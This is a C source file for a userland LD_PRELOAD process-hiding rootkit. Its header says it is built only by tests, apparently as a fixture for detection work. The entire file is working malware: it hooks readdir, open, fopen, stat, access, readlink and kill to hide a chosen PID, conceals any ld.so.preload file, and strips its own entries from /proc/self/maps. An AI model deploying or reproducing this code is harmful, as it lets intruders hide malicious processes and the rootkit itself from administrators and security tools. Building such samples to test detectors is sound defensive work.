/* A userland process hider that hooks more than readdir, built by the tests (never installed host-wide).
 *
 * Like Jynx2, Azazel and BEURK (and the libprocesshider copies in mining droppers), it is an
 * LD_PRELOAD / ld.so.preload library that replaces libc functions:
 *   readdir, readdir64                    drop /proc/<HIDE_PID> from the /proc listing
 *   opendir, open*, fopen*, *stat*, statx, access, readlink*
 *                                         /proc/<HIDE_PID>/... and any path ending in ld.so.preload do not exist
 *   kill                                  kill(HIDE_PID, ...) says ESRCH (no such process)
 *   open/fopen of /proc/self/maps         this library's own lines are filtered out
 * The pid comes from the HIDE_PID environment variable, or from -DHIDE_PID_DEFAULT=... at build time.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <signal.h>
#include <unistd.h>

#ifndef HIDE_PID_DEFAULT
#define HIDE_PID_DEFAULT ""
#endif
#define REAL(fn) static __typeof__(fn) *real_##fn; if (!real_##fn) real_##fn = dlsym(RTLD_NEXT, #fn)

static const char *hidden_pid(void) {
    const char *pid = getenv("HIDE_PID");
    return pid && *pid ? pid : HIDE_PID_DEFAULT;
}

/* "/proc/<pid>" or "/proc/<pid>/..." for the hidden pid, or any path ending in ld.so.preload */
static int hidden_path(const char *path) {
    const char *pid = hidden_pid();
    if (!path) return 0;
    size_t len = strlen(path);
    if (len >= 13 && strcmp(path + len - 13, "ld.so.preload") == 0) return 1;
    if (!*pid || strncmp(path, "/proc/", 6) != 0) return 0;
    size_t n = strlen(pid);
    return strncmp(path + 6, pid, n) == 0 && (path[6 + n] == 0 || path[6 + n] == '/');
}

static int is_maps(const char *path) {
    if (!path) return 0;
    char self[64];
    snprintf(self, sizeof self, "/proc/%d/maps", (int)getpid());
    return strcmp(path, "/proc/self/maps") == 0 || strcmp(path, self) == 0;
}

/* The real maps without the lines that name this library, in a memfd. */
static int filtered_maps(const char *path) {
    REAL(open);
    REAL(fopen);
    Dl_info me;
    if (!dladdr((void *)hidden_path, &me) || !me.dli_fname) return real_open(path, O_RDONLY);
    FILE *in = real_fopen(path, "r");
    if (!in) return -1;
    int out = memfd_create("maps", MFD_CLOEXEC);
    char line[4096];
    while (fgets(line, sizeof line, in))
        if (!strstr(line, me.dli_fname)) write(out, line, strlen(line));
    fclose(in);
    lseek(out, 0, SEEK_SET);
    return out;
}

static int is_proc_dir(DIR *dirp) {
    char link[64], path[256];
    REAL(readlink);
    snprintf(link, sizeof link, "/proc/self/fd/%d", dirfd(dirp));
    ssize_t n = real_readlink(link, path, sizeof path - 1);
    if (n < 0) return 0;
    path[n] = 0;
    return strcmp(path, "/proc") == 0;
}

#define HIDE_ENTRIES(fn, type)                                                           \
    type *fn(DIR *dirp) {                                                                \
        REAL(fn);                                                                        \
        type *entry;                                                                     \
        while ((entry = real_##fn(dirp)) && *hidden_pid() && is_proc_dir(dirp)           \
               && strcmp(entry->d_name, hidden_pid()) == 0) {}                           \
        return entry;                                                                    \
    }
HIDE_ENTRIES(readdir, struct dirent)
HIDE_ENTRIES(readdir64, struct dirent64)

DIR *opendir(const char *name) {
    REAL(opendir);
    if (hidden_path(name)) { errno = ENOENT; return NULL; }
    return real_opendir(name);
}

#define OPEN_LIKE(fn)                                                                    \
    int fn(const char *path, int flags, ...) {                                           \
        REAL(fn);                                                                        \
        va_list ap; va_start(ap, flags); mode_t mode = va_arg(ap, mode_t); va_end(ap);  \
        if (hidden_path(path)) { errno = ENOENT; return -1; }                            \
        if (is_maps(path)) return filtered_maps(path);                                   \
        return real_##fn(path, flags, mode);                                             \
    }
OPEN_LIKE(open)
OPEN_LIKE(open64)

#define OPENAT_LIKE(fn)                                                                  \
    int fn(int dirfd, const char *path, int flags, ...) {                                \
        REAL(fn);                                                                        \
        va_list ap; va_start(ap, flags); mode_t mode = va_arg(ap, mode_t); va_end(ap);  \
        if (hidden_path(path)) { errno = ENOENT; return -1; }                            \
        if (is_maps(path)) return filtered_maps(path);                                   \
        return real_##fn(dirfd, path, flags, mode);                                      \
    }
OPENAT_LIKE(openat)
OPENAT_LIKE(openat64)

#define FOPEN_LIKE(fn)                                                                   \
    FILE *fn(const char *path, const char *mode) {                                       \
        REAL(fn);                                                                        \
        if (hidden_path(path)) { errno = ENOENT; return NULL; }                          \
        if (is_maps(path)) { int fd = filtered_maps(path); return fd < 0 ? NULL : fdopen(fd, mode); } \
        return real_##fn(path, mode);                                                    \
    }
FOPEN_LIKE(fopen)
FOPEN_LIKE(fopen64)

#define STAT_LIKE(fn, type)                                                              \
    int fn(const char *path, type *buf) {                                                \
        REAL(fn);                                                                        \
        if (hidden_path(path)) { errno = ENOENT; return -1; }                            \
        return real_##fn(path, buf);                                                     \
    }
STAT_LIKE(stat, struct stat)
STAT_LIKE(lstat, struct stat)
STAT_LIKE(stat64, struct stat64)
STAT_LIKE(lstat64, struct stat64)

#define FSTATAT_LIKE(fn, type)                                                           \
    int fn(int dirfd, const char *path, type *buf, int flags) {                          \
        REAL(fn);                                                                        \
        if (hidden_path(path)) { errno = ENOENT; return -1; }                            \
        return real_##fn(dirfd, path, buf, flags);                                       \
    }
FSTATAT_LIKE(fstatat, struct stat)
FSTATAT_LIKE(fstatat64, struct stat64)

int statx(int dirfd, const char *path, int flags, unsigned int mask, struct statx *buf) {
    REAL(statx);
    if (hidden_path(path)) { errno = ENOENT; return -1; }
    return real_statx(dirfd, path, flags, mask, buf);
}

int access(const char *path, int mode) {
    REAL(access);
    if (hidden_path(path)) { errno = ENOENT; return -1; }
    return real_access(path, mode);
}

ssize_t readlink(const char *path, char *buf, size_t size) {
    REAL(readlink);
    if (hidden_path(path)) { errno = ENOENT; return -1; }
    return real_readlink(path, buf, size);
}

ssize_t readlinkat(int dirfd, const char *path, char *buf, size_t size) {
    REAL(readlinkat);
    if (hidden_path(path)) { errno = ENOENT; return -1; }
    return real_readlinkat(dirfd, path, buf, size);
}

int kill(pid_t pid, int sig) {
    REAL(kill);
    const char *hide = hidden_pid();
    if (*hide && pid == (pid_t)atoi(hide)) { errno = ESRCH; return -1; }
    return real_kill(pid, sig);
}
